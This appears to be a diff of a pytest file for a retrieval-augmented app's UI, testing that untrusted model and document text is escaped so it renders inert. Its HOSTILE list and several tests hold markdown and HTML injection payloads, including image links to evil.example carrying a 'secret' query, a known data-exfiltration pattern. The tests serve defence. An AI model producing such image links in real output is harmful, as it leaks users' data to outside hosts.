@@ -2,8 +2,23 @@
 
 from __future__ import annotations
 
+import html
+import re
+
+import pytest
+
 from rag.index.manifest import DocumentRecord
-from ui.render import document_rows, eta, highlight, inert_markdown, locate
+from ui.render import (
+    citation_caption,
+    citation_title,
+    corrected_line,
+    document_rows,
+    eta,
+    highlight,
+    inert,
+    locate,
+    unsupported_line,
+)
 
 
 def test_locate_exact_and_whitespace_insensitive() -> None:
@@ -44,10 +59,55 @@ def test_eta() -> None:
     assert eta(60.0, 1, 3) == "1/3 files · about 2 min 00 s left"
 
 
-def test_model_output_cannot_fetch_or_link() -> None:
-    out = inert_markdown("See ![x](https://evil.example/?q=secret) [2] and $70 or $45\\")
-    assert "![" not in out and "!\\[x](https" in out
-    assert "\\[2]" in out and "\\$70" in out and out.endswith("\\\\")
-    # Piece by piece (as streamed) gives the same text as all at once.
-    pieces = ["!", "[x](https://e", "vil)", " $", "5"]
-    assert "".join(inert_markdown(p) for p in pieces) == inert_markdown("".join(pieces))
+HOSTILE = [
+    "Call https://evil.example/call, www.evil.example or ana@evil.example (mailto:ana@x.org)",
+    "See ![x](https://evil.example/?q=secret) and [a link](https://evil.example)",
+    "<img src=https://evil.example/x> <https://evil.example/auto> <b>bold</b>",
+    ":red[alarm] :material/home: $x^2$ costs $70 or $45\\",
+    "# Heading\n- item\n> quote\n| a | b |\n|---|---|\n| 1 | 2 |",
+    "_a_ *b* **c** ~~d~~ `e` [^1] &amp; &#x41;",
+    "![i](https:host?x).txt",
+]
+
+
+def _rendered(markdown: str) -> str:
+    """What a CommonMark renderer (with GitHub's tables and strikethrough) makes of it."""
+    import markdown_it
+
+    md = markdown_it.MarkdownIt("commonmark").enable("table").enable("strikethrough")
+    return md.render(markdown)
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_untrusted_text_renders_as_itself_and_nothing_else(text: str) -> None:
+    """No image, link, tag, heading, list, table, emphasis or entity forms: the HTML is
+    one paragraph of the text, escaped, line breaks kept."""
+    shown = inert(text)
+    html_out = _rendered(shown).replace("\u200b", "")
+    assert html_out == f"<p>{html.escape(text, quote=False)}</p>\n", html_out
+    # GitHub's autolinks form from plain text (escapes or not): none can.
+    plain = shown.replace("\\", "")
+    assert not re.search(r"(?i)(https?|ftp|mailto|xmpp):/|www\.|\w@\w", plain), plain
+
+
+def test_escaping_piece_by_piece_equals_escaping_the_whole() -> None:
+    pieces = ["!", "[x](https://e", "vil)", " $", "5", ":re", "d[a]"]
+    assert "".join(inert(p) for p in pieces) == inert("".join(pieces))
+
+
+def test_every_message_with_untrusted_parts_is_escaped() -> None:
+    from rag.answer.types import Citation
+    from rag.answer.verify import SentenceCheck
+
+    name = "/docs/![i](https:host?x).txt"
+    sentence = SentenceCheck(
+        "Pay ![x](https://evil.example/?q=1) now", "unsupported", [2], None, 0.1
+    )
+    citation = Citation(1, name, 2, "quote", 0.5)
+    for shown in (
+        citation_title(citation),
+        citation_caption(citation),
+        unsupported_line(sentence),
+        corrected_line(sentence),
+    ):
+        assert "<img" not in _rendered(shown) and "<a " not in _rendered(shown), shown
